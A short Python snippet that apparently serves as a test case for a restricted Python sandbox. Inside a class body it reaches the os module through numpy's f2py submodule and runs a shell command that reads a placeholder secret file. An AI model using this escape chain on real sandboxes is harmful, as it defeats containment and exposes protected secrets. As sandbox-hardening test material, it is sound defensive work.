"""The body of a class looks names up in itself first."""
import numpy as np
module = [np][0]
class Body:
    _getattr_ = getattr
    print(module.f2py.os.popen("cat @SECRET_FILE@").read())
